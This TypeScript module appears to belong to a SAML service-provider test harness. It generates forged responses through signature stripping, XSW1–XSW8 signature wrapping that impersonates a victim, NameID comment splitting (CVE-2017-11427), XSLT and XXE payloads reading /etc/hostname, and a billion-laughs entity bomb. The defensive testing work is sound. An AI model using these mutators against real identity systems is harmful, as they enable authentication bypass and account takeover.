// Layered XML mutators for SAML faults: small, pure string → string functions over an xmldom
// DOM. Attack shapes follow SAML Raider and "On Breaking SAML" (Somorovsky et al., USENIX
// Security 2012); each says which element the SP will mistakenly trust.
import type { Document as XmlDocument, Element as XmlElement, Node as XmlNode } from '@xmldom/xmldom';
import { randomBytes } from 'node:crypto';
import type { TestKeyPair } from '../../lib/index.ts';
import type { SignatureAlgorithm } from '../types.ts';
import { NS } from './render.ts';
import { childNs, parseXml, resignSignedInfo, serializeXml } from './sign.ts';

const DECLARATION = /^<\?xml[^?]*\?>/;

/** Parse, mutate, serialize — keeping the XML declaration the vendor wrote. */
export function withDocument(xml: string, mutate: (doc: XmlDocument, root: XmlElement) => void): string {
  const declaration = DECLARATION.exec(xml)?.[0] ?? '';
  const doc = parseXml(xml.slice(declaration.length));
  const root = doc.documentElement;
  if (!root) throw new Error('SAML mutator: the response has no root element');
  mutate(doc, root);
  return declaration + serializeXml(doc);
}

export function elementChildren(parent: XmlElement): XmlElement[] {
  const out: XmlElement[] = [];
  for (let node = parent.firstChild; node; node = node.nextSibling) if (node.nodeType === 1) out.push(node as XmlElement);
  return out;
}

export function topAssertion(root: XmlElement): XmlElement {
  const assertion = childNs(root, NS.assertion, 'Assertion');
  if (!assertion) throw new Error('SAML mutator: the response has no Assertion');
  return assertion;
}

export function signatureOf(element: XmlElement): XmlElement | undefined {
  return childNs(element, NS.ds, 'Signature');
}

function descendants(element: XmlElement, ns: string, localName: string): XmlElement[] {
  const list = element.getElementsByTagNameNS(ns, localName);
  return Array.from({ length: list.length }, (_, i) => list.item(i)!);
}

function newId(): string {
  return `_evil${randomBytes(12).toString('hex')}`;
}

/** Make `assertion` speak for `victim`: NameID and every email-looking attribute value. */
export function impersonate(assertion: XmlElement, victim: string): void {
  for (const nameId of descendants(assertion, NS.assertion, 'NameID')) nameId.textContent = victim;
  for (const value of descendants(assertion, NS.assertion, 'AttributeValue')) {
    if ((value.textContent ?? '').includes('@')) value.textContent = victim;
  }
}

/** An unsigned evil copy of the signed assertion: new ID, victim's identity, no Signature. */
function evilCopy(assertion: XmlElement, victim: string): XmlElement {
  const evil = assertion.cloneNode(true) as XmlElement;
  const signature = signatureOf(evil);
  if (signature) evil.removeChild(signature);
  evil.setAttribute('ID', newId());
  impersonate(evil, victim);
  return evil;
}

function withoutSignature(element: XmlElement): XmlElement {
  const copy = element.cloneNode(true) as XmlElement;
  const signature = signatureOf(copy);
  if (signature) copy.removeChild(signature);
  return copy;
}

function insertAfter(parent: XmlNode, node: XmlNode, reference: XmlNode): void {
  parent.insertBefore(node, reference.nextSibling);
}

function remove(node: XmlNode | undefined): void {
  node?.parentNode?.removeChild(node);
}

// --- signature removal ---------------------------------------------------------------------------

export function stripSignatures(where: 'all' | 'response' | 'assertion'): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (_doc, root) => {
      if (where !== 'assertion') remove(signatureOf(root));
      if (where !== 'response') for (const assertion of descendants(root, NS.assertion, 'Assertion')) remove(signatureOf(assertion));
    });
}

// --- signature wrapping (XSW1–XSW8) ----------------------------------------------------------------

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/**
 * XSW1/2 need a signed Response; XSW3–8 a signed Assertion (the attacker first drops any
 * Response signature, which an SP that only wants a signed assertion never misses).
 */
export function signatureWrapping(variant: XswVariant, victim: () => string): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (doc, root) => {
      if (variant === 1 || variant === 2) {
        const signature = signatureOf(root);
        if (!signature) throw new Error(`XSW${variant} needs a signed Response`);
        // The original (signed) Response moves inside the evil one; the signature still points at it.
        const original = withoutSignature(root);
        root.setAttribute('ID', newId());
        const assertion = childNs(root, NS.assertion, 'Assertion');
        if (assertion) impersonate(assertion, victim());
        if (variant === 1) insertAfter(root, original, signature);
        else root.insertBefore(original, signature);
        return;
      }
      remove(signatureOf(root));
      const assertion = topAssertion(root);
      const signature = signatureOf(assertion);
      if (!signature) throw new Error(`XSW${variant} needs a signed Assertion`);
      switch (variant) {
        case 3: // evil assertion before the signed one
          root.insertBefore(evilCopy(assertion, victim()), assertion);
          return;
        case 4: {
          // evil assertion wraps the signed one
          const evil = evilCopy(assertion, victim());
          root.replaceChild(evil, assertion);
          evil.appendChild(assertion);
          return;
        }
        case 5: {
          // the signed assertion is edited in place; an unsigned copy of the original goes last
          const original = withoutSignature(assertion);
          impersonate(assertion, victim());
          const originalId = assertion.getAttribute('ID') ?? '';
          assertion.setAttribute('ID', newId());
          original.setAttribute('ID', originalId);
          root.appendChild(original);
          return;
        }
        case 6: // as 5, but the original copy hides inside the Signature
        case 8: {
          // as 6, inside a ds:Object
          const original = withoutSignature(assertion);
          impersonate(assertion, victim());
          const originalId = assertion.getAttribute('ID') ?? '';
          assertion.setAttribute('ID', newId());
          original.setAttribute('ID', originalId);
          if (variant === 6) {
            signature.appendChild(original);
          } else {
            const object = doc.createElementNS(NS.ds, signature.prefix ? `${signature.prefix}:Object` : 'Object');
            object.appendChild(original);
            signature.appendChild(object);
          }
          return;
        }
        case 7: {
          // evil assertion inside samlp:Extensions, before the signed one
          const prefix = root.prefix ?? 'samlp';
          const extensions = doc.createElementNS(NS.protocol, `${prefix}:Extensions`);
          extensions.appendChild(evilCopy(assertion, victim()));
          const issuer = childNs(root, NS.assertion, 'Issuer');
          if (issuer) insertAfter(root, extensions, issuer);
          else root.insertBefore(extensions, root.firstChild);
          return;
        }
      }
    });
}

/** A second, unsigned assertion for the victim after the signed one. */
export function appendUnsignedAssertion(victim: () => string): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (_doc, root) => {
      remove(signatureOf(root));
      const assertion = topAssertion(root);
      insertAfter(root, evilCopy(assertion, victim()), assertion);
    });
}

// --- content tampering after signing ---------------------------------------------------------------

/**
 * CVE-2017-11427 family: a comment splits the NameID (and email attribute values) so a naive SP
 * reads only the first text node. Exclusive C14N drops comments, so the signature still verifies.
 */
export function commentInIdentity(visiblePrefix: () => string): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (doc, root) => {
      const prefix = visiblePrefix();
      const targets = [...descendants(root, NS.assertion, 'NameID'), ...descendants(root, NS.assertion, 'AttributeValue')];
      for (const element of targets) {
        const text = element.textContent ?? '';
        if (!text.startsWith(prefix) || text === prefix) continue;
        while (element.firstChild) element.removeChild(element.firstChild);
        element.appendChild(doc.createTextNode(prefix));
        element.appendChild(doc.createComment(''));
        element.appendChild(doc.createTextNode(text.slice(prefix.length)));
      }
    });
}

/** Edit the signed assertion's identity after signing (the digest no longer matches). */
export function tamperIdentity(victim: () => string): (xml: string) => string {
  return (xml) => withDocument(xml, (_doc, root) => impersonate(topAssertion(root), victim()));
}

export const XSLT_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xslt-19991116';
export const XPATH_TRANSFORM = 'http://www.w3.org/TR/1999/REC-xpath-19991116';

/** An XSLT transform in the assertion signature's Transforms, SignedInfo re-signed so it is the only defect. */
export function xsltTransform(key: () => TestKeyPair, algorithm: SignatureAlgorithm): (xml: string) => string {
  // Loopback-safe payload: the stylesheet would read a local file, never the network.
  return extraTransform(
    'assertion-or-response',
    XSLT_TRANSFORM,
    () =>
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/hostname\')"/></xsl:template></xsl:stylesheet>',
    key,
    algorithm,
  );
}

/**
 * Append a Transform (`algorithmUri`, with `body("ds:" or "")` inside) to one signature's Transforms and
 * re-sign its SignedInfo, so the extra transform is the only defect (the digest is unchanged:
 * a verifier that skips transforms it does not know still finds it matching).
 * `assertion-or-response`: the assertion's signature when there is one, else the response's.
 */
export function extraTransform(
  part: 'assertion-or-response' | 'response',
  algorithmUri: string,
  body: (dsPrefix: string) => string,
  key: () => TestKeyPair,
  algorithm: SignatureAlgorithm,
): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (doc, root) => {
      const signature = part === 'response' ? signatureOf(root) : (signatureOf(topAssertion(root)) ?? signatureOf(root));
      if (!signature) throw new Error(`extra transform ${algorithmUri}: the ${part === 'response' ? 'response' : 'message'} is not signed`);
      const transforms = descendants(signature, NS.ds, 'Transforms')[0];
      if (!transforms) throw new Error('extra transform: the signature has no Transforms');
      const prefix = signature.prefix ? `${signature.prefix}:` : '';
      const transform = parseXml(
        `<${prefix}Transform xmlns${signature.prefix ? `:${signature.prefix}` : ''}="${NS.ds}" Algorithm="${algorithmUri}">${body(prefix)}</${prefix}Transform>`,
      ).documentElement;
      if (!transform) return;
      transforms.appendChild(doc.importNode(transform, true));
      resignSignedInfo(signature, key(), algorithm);
    });
}

// --- parser attacks --------------------------------------------------------------------------------

function insertDoctype(xml: string, doctype: string): string {
  const declaration = DECLARATION.exec(xml)?.[0] ?? '';
  return declaration + doctype + xml.slice(declaration.length);
}

/** External entity declared (never referenced, so the signature still verifies): only the DOCTYPE is wrong. */
export function xxeDoctype(xml: string): string {
  return insertDoctype(xml, '<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>');
}

/** "Billion laughs" entity expansion, declared but unreferenced. */
export function entityExpansionDoctype(xml: string): string {
  const entities = [
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ];
  return insertDoctype(xml, `<!DOCTYPE Response [${entities.join('')}]>`);
}

/** Pad the assertion with a large attribute (before signing: size is the only defect). */
export function oversizeAttribute(bytes: number): (xml: string) => string {
  return (xml) =>
    withDocument(xml, (doc, root) => {
      const assertion = topAssertion(root);
      const statement = descendants(assertion, NS.assertion, 'AttributeStatement')[0];
      const prefix = assertion.prefix ? `${assertion.prefix}:` : '';
      const attribute = doc.createElementNS(NS.assertion, `${prefix}Attribute`);
      attribute.setAttribute('Name', 'padding');
      const value = doc.createElementNS(NS.assertion, `${prefix}AttributeValue`);
      value.appendChild(doc.createTextNode('A'.repeat(bytes)));
      attribute.appendChild(value);
      if (statement) {
        statement.appendChild(attribute);
      } else {
        const newStatement = doc.createElementNS(NS.assertion, `${prefix}AttributeStatement`);
        newStatement.appendChild(attribute);
        assertion.appendChild(newStatement);
      }
    });
}

/** Deeply nested elements inside samlp:Extensions (string-built: a DOM this deep would overflow the serializer). */
export function deepNesting(depth: number): (xml: string) => string {
  return (xml) => {
    const match = /<([A-Za-z0-9]+:)?Issuer[\s>][\s\S]*?<\/([A-Za-z0-9]+:)?Issuer>/.exec(xml);
    if (!match) throw new Error('deep-nesting: no Issuer found');
    const protocolPrefix = /<([A-Za-z0-9]+):Response[\s>]/.exec(xml)?.[1] ?? 'samlp';
    const bomb = `<${protocolPrefix}:Extensions>${'<x:n xmlns:x="urn:x">'.repeat(depth)}${'</x:n>'.repeat(depth)}</${protocolPrefix}:Extensions>`;
    const end = match.index + match[0].length;
    return xml.slice(0, end) + bomb + xml.slice(end);
  };
}
